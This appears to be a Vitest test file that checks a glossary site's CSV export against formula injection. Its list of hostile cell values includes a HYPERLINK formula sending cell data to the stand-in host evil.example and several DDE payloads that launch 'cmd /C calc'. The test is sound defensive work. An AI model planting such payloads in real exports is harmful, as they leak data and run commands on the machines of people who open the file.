@@ -1,0 +1,71 @@
+import { describe, expect, test } from 'vitest';
+import { toCsv } from '../../src/lib/api.ts';
+import type { ApiTerm } from '../../src/schemas/api.ts';
+
+const term = (over: Partial<ApiTerm>): ApiTerm => ({
+  slug: 'sample',
+  url: 'https://glossary.example.org/terms/sample/',
+  number: 7,
+  title: 'Sample',
+  qualifier: 'Test Concept',
+  category: { slug: 'defense-and-operations', name: 'Defense & Operations' },
+  summary: 'A sample term.',
+  aliases: [],
+  attack: null,
+  related: [],
+  reviewed: '2026-11-01',
+  ...over,
+});
+
+/** RFC 4180 as a spreadsheet reads it: quoted fields, doubled quotes, CRLF rows. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let field = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i]!;
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
+      else if (c === '"') quoted = false;
+      else field += c;
+    } else if (c === '"') quoted = true;
+    else if (c === ',') row.push(field), (field = '');
+    else if (c === '\r' && text[i + 1] === '\n') row.push(field), rows.push(row), (row = []), (field = ''), i++;
+    else field += c;
+  }
+  return rows;
+}
+
+// Excel, LibreOffice and Google Sheets run a cell starting with one of these as a formula, quoted or not.
+const RUNS_AS_FORMULA = /^[\s]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r\n\0]/;
+
+describe('/glossary.csv (#12.1)', () => {
+  const hostile = [
+    '=HYPERLINK("https://evil.example/?d="&A2,"Click me")',
+    "+cmd|' /C calc'!A0",
+    '@SUM(1+1)*cmd|" /C calc"!A0',
+    '\t=1+2',
+    '\r=1+2',
+    '-2+3+cmd|" /C calc"!A0',
+    ' =1+2',
+    '＝1+2',
+  ];
+
+  test.each(hostile)('neutralises %j in every column it can reach, as OWASP advises', (value) => {
+    const csv = toCsv([term({ title: value, qualifier: value, summary: value, aliases: [value, 'Other'], category: { slug: 'x', name: value } })]);
+    const [, row] = parseCsv(csv);
+    for (const cell of row!) expect(cell).not.toMatch(RUNS_AS_FORMULA);
+    // The text itself is kept: a leading single quote is what spreadsheets read as "this is text", and do not show.
+    expect(row!.slice(1, 5)).toEqual([`'${value}`, `'${value}`, `'${value}`, `'${value}`]);
+    expect(row![5]).toBe(`'${value}; Other`);
+  });
+
+  test('leaves ordinary cells exactly as they were', () => {
+    const csv = toCsv([term({ title: 'C++ "quoted"', aliases: ['A = B', 'user@host'] })]);
+    expect(csv).toBe(
+      'number,title,qualifier,category,summary,aliases,attack_id,url,reviewed\r\n' +
+        '"7","C++ ""quoted""","Test Concept","Defense & Operations","A sample term.","A = B; user@host","","https://glossary.example.org/terms/sample/","2026-11-01"\r\n',
+    );
+  });
+});
